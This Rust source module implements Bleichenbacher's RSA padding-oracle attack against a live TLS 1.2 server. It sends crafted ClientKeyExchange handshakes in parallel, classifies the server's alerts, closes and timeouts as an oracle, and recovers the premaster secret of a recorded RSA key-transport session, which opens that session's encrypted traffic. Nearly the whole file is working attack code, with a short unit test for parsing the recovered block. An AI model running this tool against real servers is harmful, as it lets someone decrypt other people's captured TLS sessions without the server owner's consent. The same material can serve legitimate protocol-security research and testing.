//! `oracle-attack`: Bleichenbacher's attack ([`crate::attack::bleichenbacher`]) against a live
//! server, one real TLS 1.2 handshake per question.
//!
//! Each query offers the recorded session's suite, reads the server's flight to ServerHelloDone,
//! then sends ClientKeyExchange(c'), ChangeCipherSpec and a Finished under keys from a premaster
//! of its own (RFC 5246 §7.4.7.1, §7.4.9) in one flight, and notes how the server answers: an
//! alert, a close, a timeout. Which answer means "conforming" is learnt from the recorded
//! ciphertext itself, which the server once accepted, so it decrypts to 00 02 … by definition.
//! The server's RSA key is never needed; its certificate's public key is.

use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use num_bigint::BigUint;
use rand::Rng;
use rsa::traits::PublicKeyParts;
use zeroize::Zeroizing;

use crate::attack::bleichenbacher::{self, AttackError};
use crate::crypto::rng::{self, random_array};
use crate::endpoint::conn::{Connection, Context, Message, State, Transcript};
use crate::endpoint::require_handshake;
use crate::endpoint::stream::TlsStream;
use crate::error::Error;
use crate::msgs::enums::{
    AlertDescription, ExtensionType, HandshakeType, ProtocolVersion,
    TLS_EMPTY_RENEGOTIATION_INFO_SCSV,
};
use crate::msgs::handshake::{
    read_certificate_request, read_empty, CertificateMsg, ClientHello, Extension,
    RsaClientKeyExchange, ServerHello,
};
use crate::pki;
use crate::suites::{KeyExchange, Suite};
use crate::tls12::keys::{derive_master_secret, Side};
use crate::tls12::{finished_for, protectors};

/// Where the oracle lives and how to ask it.
#[derive(Clone)]
pub struct OracleTarget {
    pub addr: SocketAddr,
    /// The recorded session's suite (RSA key transport).
    pub suite: Suite,
    /// The server's RSA public key, from the recorded certificate.
    pub public: rsa::PublicKey,
    /// Parallel connections.
    pub connections: usize,
    /// Longest wait for one handshake.
    pub timeout: Duration,
}

/// How the server answered one ClientKeyExchange.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Answer {
    /// A fatal alert (RFC 5246 §7.2).
    Alert(AlertDescription),
    /// The connection closed with no alert.
    Closed,
    /// Nothing within the timeout.
    Timeout,
    /// The server went on with its ChangeCipherSpec: the premaster it decrypted was ours.
    Accepted,
}

impl std::fmt::Display for Answer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Alert(a) => write!(f, "fatal alert {a}"),
            Self::Closed => f.write_str("a close without an alert"),
            Self::Timeout => f.write_str("silence until the timeout"),
            Self::Accepted => f.write_str("its ChangeCipherSpec"),
        }
    }
}

/// Why the attack could not start or finish.
#[derive(Debug)]
pub enum OracleError {
    /// A query failed before the ClientKeyExchange went out (refused, wrong server, …).
    Query(String),
    /// Every probe drew the same answer.
    NoOracle { probes: usize, answer: Answer },
    /// Only a conformant block with a wrong message length drew another answer: a weak oracle,
    /// which this attack (it needs "starts 00 02") cannot use.
    WeakOnly {
        probes: usize,
        answer: Answer,
        short: Answer,
    },
    /// The recorded ciphertext is not one this key can have produced.
    Ciphertext(String),
    /// Bleichenbacher's attack stopped without m.
    Attack(String),
    /// The query budget ran out.
    Budget(u64),
}

impl std::fmt::Display for OracleError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Query(e) => write!(f, "a query to the server failed: {e}"),
            Self::NoOracle { probes, answer } => write!(
                f,
                "no oracle: the server answers every padding the same way ({probes} probes: the recorded ciphertext, a conformant block with a 47-byte message and random ciphertexts all drew {answer})"
            ),
            Self::WeakOnly { probes, answer, short } => write!(
                f,
                "only a weak oracle: of {probes} probes, a conformant block with a 47-byte message drew {short}, while the recorded ciphertext and random ciphertexts all drew {answer}; this attack needs the server to single out blocks that do not start 00 02 (a strong oracle)"
            ),
            Self::Ciphertext(e) => f.write_str(e),
            Self::Attack(e) => write!(f, "the attack stopped: {e}"),
            Self::Budget(q) => write!(f, "the query budget ran out after {q} queries"),
        }
    }
}

impl std::error::Error for OracleError {}

/// Counters the CLI draws while the attack runs.
#[derive(Debug, Default)]
pub struct OracleProgress {
    pub queries: AtomicU64,
    /// Bits of the number of candidates for m still open.
    pub width_bits: AtomicU64,
}

/// What the probe learnt: the conforming answer and the other one.
#[derive(Debug, Clone)]
pub struct Probe {
    pub probes: usize,
    pub conforming: Answer,
    pub other: Answer,
}

/// The attack's result.
pub struct OracleFind {
    /// m = c^d mod n, checked: m^e mod n is the recorded ciphertext.
    pub block: Zeroizing<Vec<u8>>,
    /// Queries of the attack proper (the probe's not counted).
    pub queries: u64,
    pub elapsed: Duration,
    pub probe: Probe,
}

/// A premaster the oracle gave up, for [`crate::attack::recover`]: it is used for the session
/// whose ClientKeyExchange carries exactly `encrypted`.
#[derive(Clone)]
pub struct OraclePremaster {
    pub encrypted: Vec<u8>,
    pub premaster: Zeroizing<Vec<u8>>,
    pub queries: u64,
    pub elapsed_ms: u64,
}

/// Random ciphertexts below n asked in the probe, besides the recorded one.
pub const RANDOM_PROBES: usize = 7;

/// Probes the server, then runs the attack on `ciphertext` with at most `budget` queries.
pub fn attack(
    target: &OracleTarget,
    ciphertext: &[u8],
    budget: u64,
    progress: &OracleProgress,
) -> Result<OracleFind, OracleError> {
    let start = Instant::now();
    let n = target.public.n().to_be_bytes_trimmed_vartime();
    let e = target.public.e().to_be_bytes_trimmed_vartime();
    let k = n.len();
    if ciphertext.len() != k || BigUint::from_bytes_be(ciphertext) >= BigUint::from_bytes_be(&n) {
        return Err(OracleError::Ciphertext(format!(
            "the recorded ClientKeyExchange ({} bytes) is not a ciphertext for the certificate's {}-bit key",
            ciphertext.len(),
            pki::modulus_bits(&target.public)
        )));
    }
    let probe = probe(target, ciphertext, &n)?;
    let conforming = probe.conforming.clone();
    let found = bleichenbacher::recover(
        &n,
        &e,
        ciphertext,
        target.connections.max(1),
        budget,
        |cts| {
            let answers = ask_all(target, cts)?;
            progress
                .queries
                .fetch_add(cts.len() as u64, Ordering::Relaxed);
            Ok(answers.into_iter().map(|a| a == conforming).collect())
        },
        |bits| progress.width_bits.store(bits, Ordering::Relaxed),
    )
    .map_err(|e| match e {
        AttackError::Oracle(e) => e,
        AttackError::Inconsistent(why) => OracleError::Attack(why.into()),
        AttackError::Budget(q) => OracleError::Budget(q),
    })?;
    // The answer is checked, not trusted: m^e mod n must be the recorded ciphertext.
    let m = BigUint::from_bytes_be(&found.block);
    let back = m.modpow(&BigUint::from_bytes_be(&e), &BigUint::from_bytes_be(&n));
    if back != BigUint::from_bytes_be(ciphertext) {
        return Err(OracleError::Attack(
            "the m found does not encrypt to the recorded ciphertext: the server's answers were not a consistent oracle".into(),
        ));
    }
    Ok(OracleFind {
        block: found.block,
        queries: found.queries,
        elapsed: start.elapsed(),
        probe,
    })
}

/// Asks the recorded ciphertext (conforming by definition), one of our own conformant blocks
/// whose message is 47 bytes (what a weak oracle singles out), and [`RANDOM_PROBES`] random
/// ciphertexts below n (each conforming with probability about 2^-16).
fn probe(target: &OracleTarget, ciphertext: &[u8], n: &[u8]) -> Result<Probe, OracleError> {
    let modulus = BigUint::from_bytes_be(n);
    let mut r = rng::from_os();
    let short = pki::rsa_encrypt_pkcs1(&target.public, &[0x03; 47], &mut r)
        .map_err(|e| OracleError::Ciphertext(format!("cannot encrypt a probe: {e}")))?;
    let mut cts = vec![ciphertext.to_vec(), short];
    while cts.len() < 2 + RANDOM_PROBES {
        let mut bytes = vec![0u8; n.len()];
        r.fill_bytes(&mut bytes);
        let c = BigUint::from_bytes_be(&bytes) % &modulus;
        cts.push(left_pad(&c.to_bytes_be(), n.len()));
    }
    let answers = ask_all(target, &cts)?;
    let (Some(conforming), Some(short_answer)) = (answers.first(), answers.get(1)) else {
        return Err(OracleError::Query("no answer to the probe".into()));
    };
    if let Some(other) = answers.iter().skip(2).find(|a| *a != conforming) {
        return Ok(Probe {
            probes: cts.len(),
            conforming: conforming.clone(),
            other: other.clone(),
        });
    }
    if short_answer != conforming {
        return Err(OracleError::WeakOnly {
            probes: cts.len(),
            answer: conforming.clone(),
            short: short_answer.clone(),
        });
    }
    Err(OracleError::NoOracle {
        probes: cts.len(),
        answer: conforming.clone(),
    })
}

fn left_pad(bytes: &[u8], k: usize) -> Vec<u8> {
    let mut out = vec![0u8; k.saturating_sub(bytes.len())];
    out.extend_from_slice(bytes);
    out
}

/// Asks every ciphertext over up to `target.connections` connections at once; answers in order.
fn ask_all(target: &OracleTarget, cts: &[Vec<u8>]) -> Result<Vec<Answer>, OracleError> {
    let answers: Vec<Mutex<Option<Result<Answer, OracleError>>>> =
        cts.iter().map(|_| Mutex::new(None)).collect();
    let next = AtomicUsize::new(0);
    let workers = target.connections.clamp(1, cts.len().max(1));
    std::thread::scope(|scope| {
        for _ in 0..workers {
            scope.spawn(|| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                let (Some(ct), Some(slot)) = (cts.get(i), answers.get(i)) else {
                    break;
                };
                let answer = ask_with_retries(target, ct);
                let failed = answer.is_err();
                if let Ok(mut s) = slot.lock() {
                    *s = Some(answer);
                }
                if failed {
                    // Let the others stop too: one failure ends the batch.
                    next.store(cts.len(), Ordering::Relaxed);
                }
            });
        }
    });
    answers
        .into_iter()
        .map(|slot| {
            slot.into_inner()
                .ok()
                .flatten()
                .unwrap_or_else(|| Err(OracleError::Query("a query was not asked".into())))
        })
        .collect()
}

/// Attempts per query when the connection fails before the ClientKeyExchange is sent (a busy
/// server refusing connections, say).
const ATTEMPTS: usize = 4;

fn ask_with_retries(target: &OracleTarget, ct: &[u8]) -> Result<Answer, OracleError> {
    let mut last = String::new();
    for attempt in 0..ATTEMPTS {
        match ask(target, ct) {
            Ok(a) => return Ok(a),
            Err(e) => last = e,
        }
        std::thread::sleep(Duration::from_millis(20 << attempt));
    }
    Err(OracleError::Query(format!(
        "{last} ({ATTEMPTS} attempts to {})",
        target.addr
    )))
}

/// One handshake carrying ClientKeyExchange(`ct`); the server's answer, or why the handshake
/// failed before the ClientKeyExchange went out.
fn ask(target: &OracleTarget, ct: &[u8]) -> Result<Answer, String> {
    let sent = Arc::new(AtomicBool::new(false));
    let conn = query_connection(target, ct, sent.clone()).map_err(|e| e.to_string())?;
    let sock = TcpStream::connect_timeout(&target.addr, target.timeout)
        .map_err(|e| format!("cannot connect: {e}"))?;
    let _ = sock.set_nodelay(true);
    let _ = sock.set_write_timeout(Some(target.timeout));
    let mut stream = TlsStream::new(conn, sock);
    stream.set_deadline(target.timeout, "waiting for the server's answer");
    let result = stream.handshake();
    if !sent.load(Ordering::Relaxed) {
        return Err(match result {
            Ok(()) => "the handshake ended before the ClientKeyExchange".into(),
            Err(e) => format!("before the ClientKeyExchange: {e}"),
        });
    }
    match result {
        Err(Error::PeerAlert(a)) => Ok(Answer::Alert(a)),
        Err(Error::PeerClosed(_)) => Ok(Answer::Closed),
        Err(Error::Io(e)) if e.kind() == std::io::ErrorKind::ConnectionReset => Ok(Answer::Closed),
        Err(Error::Timeout(_)) => Ok(Answer::Timeout),
        Err(Error::Internal(s)) if s == ACCEPTED => Ok(Answer::Accepted),
        Err(e) => Err(format!("after the ClientKeyExchange: {e}")),
        Ok(()) => Ok(Answer::Accepted),
    }
}

/// The error the last state returns when the server goes on (not a failure of the query).
const ACCEPTED: &str = "the server sent its ChangeCipherSpec";

/// A client connection whose ClientHello offers `target.suite` only (plus the renegotiation
/// SCSV, RFC 5746 §3.4), signature_algorithms and extended_master_secret, as OpenSSL's would.
fn query_connection(
    target: &OracleTarget,
    ct: &[u8],
    sent: Arc<AtomicBool>,
) -> Result<Connection, Error> {
    let suite = target.suite;
    let mut extensions = vec![
        Extension::u16_list(ExtensionType::SignatureAlgorithms, pki::RSA_SCHEMES),
        Extension::empty(ExtensionType::ExtendedMasterSecret),
    ];
    if suite.cipher.is_cbc() {
        extensions.push(Extension::empty(ExtensionType::EncryptThenMac));
    }
    let state = Query {
        suite,
        modulus: target.public.n().to_be_bytes_trimmed_vartime().to_vec(),
        ciphertext: ct.to_vec(),
        client_random: [0; 32],
        server_random: [0; 32],
        ems: false,
        etm: false,
        transcript: Transcript::default(),
        sent,
    };
    Connection::new(rng::from_os(), None, move |cx| {
        let random: [u8; 32] = random_array(&mut cx.rng);
        let hello = ClientHello {
            client_version: ProtocolVersion::Tls12.to_wire(),
            random,
            session_id: Vec::new(),
            cipher_suites: vec![suite.id, TLS_EMPTY_RENEGOTIATION_INFO_SCSV],
            compression_methods: vec![0],
            extensions,
        }
        .encode();
        cx.send_handshake(&hello);
        let mut q = state;
        q.client_random = random;
        q.transcript.add(&hello);
        Ok(Box::new(ExpectServerHello(q)))
    })
}

/// What one query carries through its states.
struct Query {
    suite: Suite,
    /// The recorded certificate's modulus: the server must present the same key.
    modulus: Vec<u8>,
    ciphertext: Vec<u8>,
    client_random: [u8; 32],
    server_random: [u8; 32],
    ems: bool,
    etm: bool,
    transcript: Transcript,
    sent: Arc<AtomicBool>,
}

struct ExpectServerHello(Query);

impl State for ExpectServerHello {
    fn handle(self: Box<Self>, _cx: &mut Context, msg: Message) -> Result<Box<dyn State>, Error> {
        let msg = require_handshake(msg, HandshakeType::ServerHello)?;
        let sh = ServerHello::read(msg.body())?;
        let mut q = self.0;
        if sh.server_version != ProtocolVersion::Tls12.to_wire() || sh.cipher_suite != q.suite.id {
            return Err(Error::IllegalParameter(format!(
                "the server chose version 0x{:04x}, suite 0x{:04x}; TLS 1.2 with {} was offered",
                sh.server_version, sh.cipher_suite, q.suite.name
            )));
        }
        q.server_random = sh.random;
        q.ems = sh.extension(ExtensionType::ExtendedMasterSecret).is_some();
        q.etm = q.suite.cipher.is_cbc() && sh.extension(ExtensionType::EncryptThenMac).is_some();
        q.transcript.add(&msg);
        Ok(Box::new(ExpectCertificate(q)))
    }
}

struct ExpectCertificate(Query);

impl State for ExpectCertificate {
    fn handle(self: Box<Self>, _cx: &mut Context, msg: Message) -> Result<Box<dyn State>, Error> {
        let msg = require_handshake(msg, HandshakeType::Certificate)?;
        let cert = CertificateMsg::read(msg.body())?;
        let mut q = self.0;
        let leaf = cert
            .chain
            .first()
            .ok_or_else(|| Error::BadCertificate("the server sent no certificate".into()))?;
        let info =
            pki::parse_certificate(leaf).map_err(|e| Error::BadCertificate(e.to_string()))?;
        // An oracle for another key answers questions about another m.
        if info.public_key.n().to_be_bytes_trimmed_vartime()[..] != q.modulus[..] {
            return Err(Error::BadCertificate(format!(
                "the server's certificate ({}) holds another RSA key than the recorded session's",
                info.subject
            )));
        }
        q.transcript.add(&msg);
        Ok(Box::new(ExpectServerHelloDone(q)))
    }
}

struct ExpectServerHelloDone(Query);

impl State for ExpectServerHelloDone {
    fn handle(self: Box<Self>, cx: &mut Context, msg: Message) -> Result<Box<dyn State>, Error> {
        let mut q = self.0;
        // RFC 5246 §7.4.4: a CertificateRequest may come first; we answer with no certificate.
        if let Message::Handshake(m) = &msg {
            if m.typ == HandshakeType::CertificateRequest {
                read_certificate_request(m.body())?;
                q.transcript.add(m);
                return Ok(Box::new(ExpectServerHelloDoneAfterRequest(q)));
            }
        }
        let msg = require_handshake(msg, HandshakeType::ServerHelloDone)?;
        read_empty(msg.body(), "ServerHelloDone")?;
        q.transcript.add(&msg);
        send_flight(q, cx, false)
    }
}

struct ExpectServerHelloDoneAfterRequest(Query);

impl State for ExpectServerHelloDoneAfterRequest {
    fn handle(self: Box<Self>, cx: &mut Context, msg: Message) -> Result<Box<dyn State>, Error> {
        let mut q = self.0;
        let msg = require_handshake(msg, HandshakeType::ServerHelloDone)?;
        read_empty(msg.body(), "ServerHelloDone")?;
        q.transcript.add(&msg);
        send_flight(q, cx, true)
    }
}

/// Certificate (if asked), ClientKeyExchange(c'), ChangeCipherSpec and Finished in one flight
/// (RFC 5246 §7.3), the keys from a premaster of our own: whatever c' decrypts to, it is not it.
fn send_flight(mut q: Query, cx: &mut Context, requested: bool) -> Result<Box<dyn State>, Error> {
    if requested {
        let empty = CertificateMsg { chain: Vec::new() }.encode();
        cx.send_handshake(&empty);
        q.transcript.add(&empty);
    }
    let cke = RsaClientKeyExchange {
        encrypted_premaster: std::mem::take(&mut q.ciphertext),
    }
    .encode();
    cx.send_handshake(&cke);
    q.transcript.add(&cke);
    let mut premaster = Zeroizing::new(vec![0u8; 48]);
    premaster[..2].copy_from_slice(&ProtocolVersion::Tls12.to_wire().to_be_bytes());
    cx.rng.fill_bytes(&mut premaster[2..]);
    let master = derive_master_secret(
        &q.suite,
        &premaster,
        q.ems,
        &q.client_random,
        &q.server_random,
        q.transcript.bytes(),
    );
    let (client_write, _) =
        protectors(&q.suite, &master, &q.client_random, &q.server_random, q.etm)?;
    cx.send_change_cipher_spec(client_write);
    let finished = finished_for(
        &q.suite,
        &master,
        Side::Client,
        &q.transcript.hash(q.suite.hash),
    )
    .encode();
    cx.send_handshake(&finished);
    q.sent.store(true, Ordering::Relaxed);
    Ok(Box::new(ExpectAnswer))
}

/// After our Finished: an alert or a close is the answer ([`Connection`] reports them); the
/// server's ChangeCipherSpec would mean it took our premaster.
struct ExpectAnswer;

impl State for ExpectAnswer {
    fn handle(self: Box<Self>, _cx: &mut Context, msg: Message) -> Result<Box<dyn State>, Error> {
        match msg {
            Message::ChangeCipherSpec => Err(Error::Internal(ACCEPTED.into())),
            other => Err(Error::unexpected("an alert", other.describe())),
        }
    }
}

/// Checks that m is 00 02 PS 00 ‖ premaster with |PS| ≥ 8 nonzero bytes and a 48-byte premaster
/// (RFC 8017 §7.2.2, RFC 5246 §7.4.7.1); gives the premaster, or says what m is instead.
pub fn premaster_from_block(block: &[u8]) -> Result<Zeroizing<Vec<u8>>, String> {
    let Some(rest) = block.strip_prefix(&[0x00, 0x02]) else {
        return Err(format!(
            "m does not start 00 02 (it starts {})",
            crate::codec::hex(block.get(..2).unwrap_or_default())
        ));
    };
    let Some(sep) = rest.iter().position(|&b| b == 0) else {
        return Err("m starts 00 02 but has no 00 separator: not a PKCS#1 v1.5 block".into());
    };
    if sep < 8 {
        return Err(format!(
            "m starts 00 02 but its padding has {sep} bytes (at least 8 required)"
        ));
    }
    let message = rest.get(sep + 1..).unwrap_or_default();
    if message.len() != 48 {
        return Err(format!(
            "m is a PKCS#1 v1.5 block, but its message is {} bytes, not a 48-byte premaster",
            message.len()
        ));
    }
    Ok(Zeroizing::new(message.to_vec()))
}

/// Whether `suite` sends the premaster RSA-encrypted (the only kind the oracle can open).
pub fn is_rsa_transport(suite: &Suite) -> bool {
    suite.key_exchange == KeyExchange::Rsa
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn premaster_from_block_checks_the_shape() {
        let mut m = vec![0x00, 0x02];
        m.extend([0x5a; 77]);
        m.push(0x00);
        m.extend([0x03; 48]);
        assert_eq!(premaster_from_block(&m).expect("good")[..], [0x03; 48]);
        let mut short = m.clone();
        short[2 + 77] = 0x5a;
        short[2 + 78] = 0x00;
        assert!(premaster_from_block(&short)
            .unwrap_err()
            .contains("47 bytes"));
        let mut type1 = m.clone();
        type1[1] = 0x01;
        assert!(premaster_from_block(&type1)
            .unwrap_err()
            .contains("starts 0001"));
        let mut few = vec![0x00, 0x02, 1, 2, 3, 0x00];
        few.extend([0x03; 48]);
        assert!(premaster_from_block(&few).unwrap_err().contains("3 bytes"));
        assert!(premaster_from_block(&[0x00, 0x02, 1, 2])
            .unwrap_err()
            .contains("no 00 separator"));
    }
}
